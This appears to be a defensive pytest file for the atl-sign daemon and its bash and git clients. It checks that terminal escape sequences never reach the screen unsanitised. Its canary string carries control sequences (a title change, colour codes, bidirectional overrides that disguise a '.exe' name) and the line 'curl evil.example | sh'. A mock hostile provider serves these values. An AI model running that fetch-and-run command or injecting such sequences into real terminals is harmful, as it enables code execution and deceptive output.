"""Nothing that others wrote moves a terminal's cursor: canary characters go down every path, and what people read is searched."""

import ast
import json
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest

from atl_sign.sandbox import Sandbox
from tests.fork_server import ForkServer
from tests.lab import REPOSITORY, Daemon

PACKAGE = REPOSITORY / "daemon/atl_sign"
BASH = REPOSITORY / "clients/bash/atl-sign"
GIT_HELPER = REPOSITORY / "clients/git/git-credential-atl-sign"
# A title is set, text is red (C1's own CSI too), a line is drawn over, the direction of writing turns, lines end.
CANARY = "\x1b]0;pwned\x07\x1b[31m\x9b31m\rover\x7f\u202egnp.exe\u2066\u200e\u2028new\u2029line\u200b"
CANARY_LINES = f"{CANARY}\nhint: curl evil.example | sh"
IN_TOML = json.dumps(CANARY_LINES)


class HostileProvider(BaseHTTPRequestHandler):
    """Answers with the canary wherever a provider has words of its own."""

    def _answer(self) -> None:
        raw = CANARY.replace("\r", "").encode()
        if self.path.endswith("/manifest"):
            status, body = (
                200,
                json.dumps({"typeId": "jira", "version": CANARY, "url": f"http://h/{CANARY}", "id": CANARY}, ensure_ascii=False),
            )
        else:
            status, body = 401, f"oauth_problem={CANARY}"
        content = body.encode()
        refusal = b'OAuth realm="x", oauth_problem="%b"' % raw
        head = b"HTTP/1.0 %d X\r\nWWW-Authenticate: %b\r\nContent-Type: application/json\r\n\r\n" % (status, refusal)
        self.wfile.write(head + content)

    do_GET = do_POST = _answer

    def log_message(self, *_: object) -> None:
        """Stay silent."""


@pytest.fixture
def provider() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), HostileProvider)
    thread = Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def daemon(sandbox: Sandbox, fork_server: ForkServer, provider: str) -> Iterator[Daemon]:
    """A daemon whose configuration, state folder and audit log somebody filled with canaries."""
    with Daemon(fork_server) as daemon:
        daemon.dance(sandbox, "jira")
        assert daemon.request("PUT", "/links/hostile", {"url": provider}).status == 201
        with daemon.config.open("a") as config:
            config.write('\n[links.odd]\nurl = "https://odd.example"\nconsumer_key = "k"\nca_bundle = "/tmp/\u202e\u2066"\n')
            config.write('proxy = "http://\u202e\u2066.example:1"\n')
            config.write(f"[links.{IN_TOML}]\nurl = 1\n[links.b]\n{IN_TOML} = 1\n")
            config.write(f"[links.c]\nurl = {IN_TOML}\nconsumer_key = {IN_TOML}\n[{IN_TOML}]\n")
        yield daemon


def unprintable(text: str) -> set[str]:
    return {char for char in text if not char.isprintable() and char not in "\n\t"}


def run(daemon: Daemon, *command: object, **options: object) -> str:
    """Return all that *command* prints."""
    done = subprocess.run(
        [str(part) for part in command],
        env=daemon.environment,
        cwd=daemon.folder,
        capture_output=True,
        check=False,
        timeout=90,
        **options,
    )  # type: ignore[call-overload]  # passed on as they are
    return str((done.stdout + done.stderr).decode(errors="surrogateescape"))


def test_no_answer_of_the_daemon_moves_a_cursor(daemon: Daemon) -> None:
    """Every call, as text and as JSON, which stays JSON; the log of the daemon too."""
    texts = []
    calls: list[tuple[str, str, dict[str, object] | None]] = [
        ("GET", "/links", None),
        ("GET", "/links/odd", None),
        ("GET", "/links/odd/setup", None),
        ("GET", "/status", None),
        ("GET", "/environment", None),
        ("POST", "/links/hostile/check", None),
        ("POST", "/links/hostile/diagnosis", None),
        ("POST", "/links/odd/diagnosis", None),
        ("POST", "/links/jira/problem", {"www_authenticate": f'OAuth oauth_problem="{CANARY}"'}),
        ("POST", "/dance", {"link": "hostile", "callback": "oob"}),
        ("PUT", "/links/hostile", {"url": f"https://{CANARY}"}),
        ("PUT", "/links/hostile", {"url": "https://h", "proxy": CANARY, CANARY: 1}),
        ("POST", "/sign", {"method": "GET", "url": f"https://h/{CANARY}"}),
        ("POST", "/sign", {"method": CANARY, "url": "https://h"}),
        ("POST", "/store/move", {"backend": CANARY}),
    ]
    for method, path, fields in calls:
        for text in (True, False):
            reply = daemon.request(method, path, fields, text=text)
            texts.append(reply.text)
            if not text:
                json.loads(reply.text)
                if reply.status >= 400:
                    assert unprintable(reply.message + reply.hint) == set(), path

    assert [text for text in texts if unprintable(text)] == []
    assert all("\nhint: curl evil" not in text for text in texts), "no value makes a line of its own"
    assert any("gnp.exe" in text for text in texts), "the canary was there at all"
    assert unprintable(daemon.log.read_text()) == set()


def test_no_command_moves_a_cursor(daemon: Daemon) -> None:
    """The bash command and atl-signd: what they print of the configuration, of arguments, of paths and of the audit log."""
    audit = next(daemon.folder.rglob("audit.jsonl"))
    with audit.open("a") as file:
        entry = {
            "time": "2026-11-25T08:00:00Z",
            "action": CANARY,
            "outcome": CANARY,
            "link": CANARY,
            "program": CANARY,
            "path": CANARY,
        }
        file.write(json.dumps(entry) + "\n" + json.dumps(entry, ensure_ascii=False).replace("\u2028", "") + "\n")
    signd = shutil.which("atl-signd", path=daemon.environment["PATH"])
    outputs = {}
    for command in (
        (BASH, "link", "list"),
        (BASH, "--json", "link", "list"),
        (BASH, "link", "show", "odd"),
        (BASH, "link", "setup", "odd"),
        (BASH, "status"),
        (BASH, "status", "--json"),
        (BASH, "check", "hostile"),
        (BASH, "dance", "hostile", "--oob"),
        (BASH, "link", "add", "x", CANARY),
        (BASH, "link", "add", CANARY, "https://h"),
        (BASH, f"--{CANARY}"),
        (BASH, CANARY_LINES),
        (BASH, "status", f"--{CANARY}"),
        (BASH, "header", CANARY, CANARY),
        (BASH, "header", "GET", f"https://h/{CANARY}"),
        (BASH, "header", "POST", "https://h/", "--form", f"@{CANARY_LINES}"),
        (BASH, "curl", f"--{CANARY}"),
        (BASH, "curl", f"https://h/{CANARY}"),
        (BASH, "curl", "-K", CANARY, "https://h"),
        (signd, "doctor"),
        (signd, "doctor", "odd"),
        (signd, "doctor", "--report", f"{CANARY}/report"),
        (signd, "log"),
        (signd, "log", "--json"),
        (signd, "log", "--since", CANARY),
        (signd, CANARY),
        (signd, "status", CANARY),
        (signd, "service", CANARY),
        (signd, "log", f"--{CANARY}"),
    ):
        outputs[command[1:]] = run(daemon, *command)
    host = f"protocol=https\nhost={CANARY}\n\n".encode()
    outputs["git",] = run(daemon, GIT_HELPER, "get", input=host)

    assert {command: found for command, text in outputs.items() if (found := unprintable(text))} == {}
    assert "gnp.exe" in outputs["log",]


def test_paths_of_the_environment_move_no_cursor() -> None:
    """A folder of such a name: atl-signd's refusals, autostart's, the bash command's and the git helper's."""
    with Daemon() as daemon:
        daemon.stop()
        folder = daemon.folder / f"s{CANARY}"
        folder.mkdir(mode=0o777)
        folder.chmod(0o777)
        daemon.environment["ATL_SIGN_SOCK"] = str(folder / "s")
        signd = str(shutil.which("atl-signd", path=daemon.environment["PATH"]))
        outputs = [run(daemon, signd, "serve"), run(daemon, BASH, "status"), run(daemon, GIT_HELPER, "get", input=b"host=h\n\n")]
        daemon.environment["ATL_SIGN_AUTOSTART"] = "1"
        outputs += [run(daemon, signd, "autostart"), run(daemon, BASH, "status"), run(daemon, signd, "doctor")]
        outputs += [run(daemon, signd, "stop"), run(daemon, signd, "restart"), run(daemon, signd, "setup")]

    assert [text for text in outputs if unprintable(text)] == []
    assert all("pwned" in text for text in outputs)


def test_a_log_entry_moves_no_cursor() -> None:
    """Its words, and those of a traceback."""
    script = (
        "import logging, sys; from atl_sign.server.process import set_up_log; set_up_log()\n"
        f"try: raise ValueError({CANARY_LINES!r})\n"
        f"except ValueError: logging.getLogger('atl_sign').exception('%s', {CANARY_LINES!r})\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)

    assert unprintable(done.stderr) == set()
    assert done.stderr.count("pwned") == 2
    assert "\nTraceback" in done.stderr


def test_one_module_prints() -> None:
    """Whoever else would write to standard output or error in atl-signd would write past what cleans the lines."""
    wrong = []
    for path in [path for path in PACKAGE.rglob("*.py") if "sandbox" not in path.relative_to(PACKAGE).parts]:
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call):
                continue
            called = ast.unparse(node.func)
            if called in ("print", "sys.stdout.write", "sys.stderr.write") and path.stem != "terminal":
                wrong.append(f"{path.name}: {called}")
            if called in ("argparse.ArgumentParser", "logging.basicConfig") and path.stem not in ("terminal", "process"):
                wrong.append(f"{path.name}: {called}")

    assert wrong == []


def test_one_function_of_the_bash_command_writes_messages() -> None:
    """All that is not an answer of the daemon's goes through `show`."""
    past = [
        line.strip()
        for line in BASH.read_text().splitlines()
        if re.search(r"(printf|echo)\b.*>&2", line) and not line.strip().startswith(("say()", "#"))
    ]

    assert past == [
        """printf '\\rwaiting for your consent, %d:%02d left ' $((left / 60)) $((left % 60)) >&2""",
        """if ((poll == 1)); then printf '\\r%40s\\r' '' >&2; fi""",
        """[[ $1 == paste ]] || printf '%s' "$question" >&2""",
    ]
